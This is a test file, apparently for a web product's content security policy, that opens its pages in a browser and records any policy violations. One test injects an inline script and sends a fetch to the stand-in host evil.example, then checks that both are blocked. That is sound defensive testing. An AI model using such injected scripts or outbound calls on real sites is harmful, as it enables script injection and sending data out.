import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openProduct, type Product, signUp } from './product.ts'

// The browser enforces the content security policy that the server sends with each page.

let product: Product
beforeAll(async () => {
  product = await openProduct()
}, 60_000)
afterAll(() => product.close())

/** Opens a page that notes what its policy has stopped. */
async function visitNoting(): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const page = await product.visit()
  const noted: string[] = []
  await page.exposeFunction('noteViolation', (what: string) => noted.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      // Libraries try whether they may evaluate code, and do without it.
      if (blockedURI === 'eval') return
      Reflect.get(window, 'noteViolation')(`${violatedDirective} ${blockedURI}`)
    })
  })
  return {
    page,
    async violations() {
      await page.getByRole('heading').first().waitFor()
      return noted
    },
  }
}

test('every page works under its policy: nothing that it needs is stopped', async () => {
  const { page, violations } = await visitNoting()
  for (const path of ['/sign-in', '/sign-up', '/pricing', '/docs/errors', '/docs/']) {
    await page.goto(path)
    expect([path, await violations()]).toEqual([path, []])
  }
  await signUp(page)
  for (const path of ['/live', '/usage', '/calls', '/agents', '/campaigns', '/billing', '/settings']) {
    await page.goto(path)
    expect([path, await violations()]).toEqual([path, []])
  }
}, 120_000)

test('a script that was put into the page does not run, and nothing is sent elsewhere', async () => {
  const { page, violations } = await visitNoting()
  await page.goto('/sign-in')
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.intruded = true'
    document.body.append(script)
    const sent = await fetch('https://evil.example/').then(
      () => 'sent',
      () => 'stopped',
    )
    return { intruded: Reflect.get(window, 'intruded') ?? false, sent }
  })
  expect(outcome).toEqual({ intruded: false, sent: 'stopped' })
  expect(await violations()).toEqual([
    expect.stringMatching(/^script-src-elem inline/),
    'connect-src https://evil.example/',
  ])
}, 60_000)
